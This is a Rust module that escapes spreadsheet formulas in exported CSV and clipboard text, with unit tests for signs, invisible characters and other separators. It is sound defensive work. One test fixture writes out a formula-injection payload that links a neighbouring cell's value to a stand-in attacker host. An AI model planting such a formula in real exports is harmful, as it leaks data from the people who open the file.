//! Guard against CSV injection: texts that a spreadsheet would run as formulas are made harmless. A customer's name or
//! a comment is typed by somebody else, and a cell that begins with `=` is a formula to Excel, `LibreOffice` and
//! Sheets: it may send what stands beside it elsewhere.
//!
//! Every way out asks [`is_formula`]: CSV and the clipboard put an apostrophe before such a text, a workbook marks its
//! cell as text, as Excel itself does for who types that apostrophe.

use std::borrow::Cow;

/// What makes a cell a formula where it comes first: the signs themselves, and the full-width forms that some programs
/// take for them.
const SIGNS: [char; 8] = ['=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// White space that is itself enough: some programs take it off, or end the cell there.
const BREAKS: [char; 3] = ['\t', '\r', '\n'];

/// What ends a cell to some reader of comma-separated values: countries differ in the separator, and whoever looks for
/// another one than the file's takes no notice of quotation marks within what is a cell to them.
pub(crate) const ENDS: [char; 6] = [',', ';', '\t', '|', '\r', '\n'];

/// Whether a spreadsheet may take the text for a formula. A number with a sign and a telephone number are among them:
/// as a number, `+47 22 00 00 00` would lose its plus.
pub fn is_formula(text: &str) -> bool {
    let bare = text.trim_start_matches('\'');
    bare.starts_with(BREAKS) || text.trim_start_matches(is_passed_over).starts_with(SIGNS)
}

/// The text with an apostrophe before it where it would be a formula: what a cell of the clipboard holds. One that is of
/// the text's own and stands before such a sign is doubled, so that taking off one apostrophe wherever a sign follows
/// gives every text back.
pub fn harmless(text: &str) -> Cow<'_, str> {
    if is_formula(text) { Cow::Owned(["'", text].concat()) } else { Cow::Borrowed(text) }
}

/// The same for a file whose cells end with `separator`, also for readers that look for another one: to them a cell
/// begins in the middle of the text, too, after whatever else ends a cell. There, the apostrophe stands directly before
/// the sign.
pub fn harmless_by_any_separator(text: &str, separator: char) -> Cow<'_, str> {
    let ends_cell = |it: char| it != separator && ENDS.contains(&it);
    if !text.contains(ends_cell) {
        return harmless(text);
    }
    let mut guarded = String::with_capacity(text.len() + 1);
    if is_formula(text) {
        guarded.push('\'');
    }
    let mut is_cell_start = false;
    for character in text.chars() {
        if is_cell_start && SIGNS.contains(&character) {
            guarded.push('\'');
        }
        is_cell_start = ends_cell(character) || (is_cell_start && is_passed_over(character));
        guarded.push(character);
    }
    Cow::Owned(guarded)
}

/// What a program may take off before it looks at what comes first: white space, characters that are not seen, and
/// quotation marks.
fn is_passed_over(character: char) -> bool {
    character.is_whitespace()
        || character.is_control()
        || matches!(
            character,
            '\'' | '"' | '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, cell: &str) {
        assert_eq!(harmless(text), cell);
        assert_eq!(is_formula(text), text != cell);
    }

    // Report 21
    #[test]
    fn a_formula_gets_an_apostrophe() {
        check(
            "=HYPERLINK(\"https://evil.example/?\"&A1)",
            "'=HYPERLINK(\"https://evil.example/?\"&A1)",
        );
        for start in "=+-@＝＋－＠\t\r\n".chars() {
            check(&format!("{start}1+1"), &format!("'{start}1+1"));
        }
    }

    // Report 21
    #[test]
    fn a_number_with_a_sign_gets_one_too() {
        for text in ["-5", "+47 22 00 00 00", "-1,5", "+4722000000", "- 5"] {
            check(text, &format!("'{text}"));
        }
    }

    #[test]
    fn what_is_taken_off_before_a_sign_hides_none() {
        for before in [" ", "\u{a0}", "\u{0}", "\u{feff}", "\u{200b}", "\"", "' \"\u{3000}"] {
            check(&format!("{before}=1"), &format!("'{before}=1"));
        }
    }

    #[test]
    fn any_other_text_stays_as_it_is() {
        for text in
            ["", "Åse", "1=1", "a+b", "'t Hooft", "'", "kari@callcenter.no", " a =1", "\"x\""]
        {
            check(text, text);
        }
    }

    #[test]
    fn an_apostrophe_of_its_own_can_be_told() {
        check("'=1", "''=1");
        check("''=1", "'''=1");
    }

    // Report 21
    #[test]
    fn a_formula_after_another_readers_separator_gets_an_apostrophe() {
        let in_commas = |text| harmless_by_any_separator(text, ',').into_owned();
        let in_semicolons = |text| harmless_by_any_separator(text, ';').into_owned();
        for (text, cell) in [
            ("Ola;=1+1", "Ola;'=1+1"),
            ("Ola|@SUM(1)|＝1", "Ola|'@SUM(1)|'＝1"),
            ("Ola\t \"=1\"", "Ola\t \"'=1\""),
            ("first\r\n-1", "first\r\n'-1"),
            ("a;'=1", "a;''=1"),
            ("=1;=1", "'=1;'=1"),
            ("Ola,=1", "Ola,=1"),
            ("a;b=1", "a;b=1"),
            ("a; ;b", "a; ;b"),
            ("-1", "'-1"),
        ] {
            assert_eq!(in_commas(text), cell);
        }
        assert_eq!(in_semicolons("Ola,=1+1"), "Ola,'=1+1");
        assert_eq!(in_semicolons("Ola;=1+1"), "Ola;=1+1");
    }
}
